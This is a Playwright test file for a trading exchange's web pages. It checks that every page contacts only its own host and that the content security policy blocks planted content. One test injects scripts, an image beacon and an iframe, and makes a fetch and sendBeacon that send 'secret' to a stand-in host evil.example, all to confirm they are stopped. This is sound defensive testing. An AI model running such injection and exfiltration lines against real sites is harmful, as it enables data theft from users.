import { expect, type Page } from '@playwright/test';
import { addresses } from './support/addresses.ts';
import type { RunningExchange } from './support/exchange.ts';
import { stoppedByPolicy } from './support/policy.ts';
import { test } from './support/shared.ts';
import { Trader } from './support/trader.ts';

let exchange: RunningExchange;
test.beforeAll(({ shared }) => {
  exchange = shared;
});

/** Hosts that a page asked for anything, over HTTP or a socket, other than its own. */
function foreignHosts(page: Page): string[] {
  const own = new URL(exchange.url).host;
  const met: string[] = [];
  const note = (url: string) => {
    const { protocol, host } = new URL(url);
    if (/^(https?|wss?):$/.test(protocol) && host !== own) met.push(host);
  };
  page.on('request', (request) => note(request.url()));
  page.on('websocket', (socket) => note(socket.url()));
  return met;
}

/** Threat 26: a script, a font or a beacon of somebody else's. */
test('every address of the specification asks one host alone, and the content policy has nothing to stop', async ({
  browser,
}) => {
  test.setTimeout(600_000);
  const trader = await Trader.at(browser, { baseURL: exchange.url, viewport: { width: 1440, height: 900 } });
  const { page } = trader;
  const [foreign, stopped] = [foreignHosts(page), await stoppedByPolicy(page)];
  const entries = ['/user/login', '/user/register', '/user/reset', '/i&ABC123', '/home/index/i&ABC123'];
  const visit = async (address: string) => {
    await page.goto(address);
    await expect(page.locator('main'), address).not.toBeEmpty();
    await expect(page.locator('[aria-busy="true"]'), address).toHaveCount(0);
    expect([address, foreign, stopped]).toEqual([address, [], []]);
  };
  for (const address of entries) await visit(address);
  await trader.registerByPages();
  for (const address of addresses) await visit(address);
  expect(trader.complaints).toEqual([]);
});

test('what somebody plants in a page is neither loaded, nor run, nor sent to anyone', async ({ browser }) => {
  const trader = await Trader.at(browser, { baseURL: exchange.url, viewport: { width: 1440, height: 900 } });
  const { page } = trader;
  const stopped = await stoppedByPolicy(page);
  const answered: string[] = [];
  page.on('response', (response) => answered.push(new URL(response.url()).host));
  await page.goto('/home/index');
  await expect(page.locator('main')).not.toBeEmpty();
  await page.evaluate(async () => {
    const add = (name: 'script' | 'img' | 'iframe', attributes: Readonly<Record<string, string>>, text = '') => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      element.textContent = text;
      document.body.append(element);
    };
    add('script', { src: 'https://evil.example/planted.js' });
    add('script', {}, 'window.planted = true');
    add('img', { src: 'https://evil.example/beacon.gif' });
    add('iframe', { src: 'https://evil.example/form' });
    await fetch('https://evil.example/keys', { method: 'POST', body: 'secret' }).catch(() => undefined);
    navigator.sendBeacon('https://evil.example/beacon', 'secret');
  });
  await expect
    .poll(() => new Set(stopped))
    .toEqual(new Set(['script-src-elem', 'require-trusted-types-for', 'img-src', 'frame-src', 'connect-src']));
  expect(answered.filter((host) => host.includes('evil'))).toEqual([]);
  expect(await page.evaluate(() => 'planted' in window)).toBe(false);
});
